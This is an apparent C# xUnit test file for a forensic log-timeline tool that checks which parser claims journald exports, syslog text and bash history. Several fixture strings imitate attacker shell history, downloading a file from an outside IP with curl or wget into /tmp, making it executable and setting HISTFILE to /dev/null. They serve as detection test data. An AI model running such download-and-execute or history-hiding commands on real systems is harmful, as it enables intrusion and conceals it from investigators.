using Timeline.Core.Ingest;
using Timeline.Parsers;
using Timeline.Parsers.Linux.BashHistory;
using Timeline.Parsers.Linux.Journald;
using Timeline.Parsers.Linux.Syslog;
using Timeline.Tests.Parsers.Linux.Persistence;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.Journald;

public sealed class JournaldSniffingTests
{
    private static readonly JournaldParser Journald = new();

    private static SniffSample Head(string path, byte[] bytes) =>
        FormatDetector.Sample(EvidenceSource.FromBytes(path, bytes, DateTimeOffset.UnixEpoch));

    [Theory]
    [InlineData("sample-logs/linux/journald/web02-export.journal")]
    [InlineData("sample-logs/linux/journald/web03.json")]
    public void SamplesAreClaimedByJournaldAboveEveryOtherParser(string sample)
    {
        var head = Head(sample, File.ReadAllBytes(Path.Combine(RepoPaths.Root, sample)));

        var own = Journald.Sniff(head);
        Assert.Equal(95, own);
        foreach (var other in ParserCatalog.Default.All.Where(p => p.Name != Journald.Name))
            Assert.True(other.Sniff(head) < own, $"{other.Name} scores {other.Sniff(head)} on {sample}");
        Assert.Equal(0, new SyslogParser().Sniff(head));
    }

    [Fact]
    public void ExportWithBinaryFieldsIsClaimedThoughItsHeadHasNulBytes()
    {
        var bytes = new JournalExport()
            .Entry(JournalExport.March2, "sshd", "1", "Accepted password for root from 203.0.113.45 port 1 ssh2")
            .Text("__REALTIME_TIMESTAMP", "1709349302481913")
            .Binary("MESSAGE", "two\nlines")
            .End()
            .Bytes;
        var head = Head("evidence/file0001", bytes);

        Assert.Contains((byte)0, head.Head); // the binary field's 64-bit length
        Assert.Equal(95, Journald.Sniff(head));
        Assert.Equal("linux/journald", ParserCatalog.Detector().Detect(head)?.Parser.Name);
    }

    [Fact]
    public void JournalWrittenAsShortIsoTextIsSyslogNotJournald()
    {
        var head = Sniffing.Sample("journal.txt",
            "2024-03-02T03:15:02+0000 web02 sshd[2211]: Accepted password for root from 203.0.113.45 port 1 ssh2\n" +
            "2024-03-02T03:15:03+0000 web02 CRON[4242]: (root) CMD (/tmp/x)\n");

        Assert.Equal(0, Journald.Sniff(head));
        Assert.Equal("linux/syslog", ParserCatalog.Detector().Detect(head)?.Parser.Name);
    }

    [Theory]
    [InlineData("root.bash_history", "export PATH=/tmp:$PATH\nHISTFILE=/dev/null\nMESSAGE=hi\ncurl -o /tmp/x http://203.0.113.9/x\nchmod +x /tmp/x\n")]
    [InlineData("root.bash_history", "#1709349302\nls\n#1709349305\nwget http://203.0.113.9/x\n")]
    [InlineData("etc-default-grub", "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\nGRUB_CMDLINE_LINUX=\"\"\n")]
    [InlineData("app.jsonl", "{\"level\":\"info\",\"msg\":\"started\",\"MESSAGEX\":1}\n{\"level\":\"warn\",\"msg\":\"slow\"}\n")]
    [InlineData("auth.log", "Mar  2 03:15:02 web01 sshd[2211]: Accepted password for root from 203.0.113.45 port 40112 ssh2\nMar  2 03:16:01 web01 CRON[4242]: (root) CMD (x)\n")]
    [InlineData("empty", "")]
    public void OtherTextIsNotJournald(string path, string text)
    {
        Assert.Equal(0, Journald.Sniff(Sniffing.Sample(path, text)));
    }

    [Fact]
    public void BashHistoryAndSyslogDoNotWinOnAnExportOfShellLikeAssignments()
    {
        // Every line is KEY=value, which also reads like a shell assignment.
        var head = Sniffing.Sample(".bash_history",
            "__REALTIME_TIMESTAMP=1709349302481913\n_HOSTNAME=web02\nSYSLOG_IDENTIFIER=bash\nMESSAGE=HISTORY: PID=4001 UID=0 curl http://203.0.113.9/x\n\n");

        var own = Journald.Sniff(head);
        Assert.Equal(95, own);
        Assert.True(new BashHistoryParser().Sniff(head) < own);
        Assert.Equal(0, new SyslogParser().Sniff(head));
    }
}
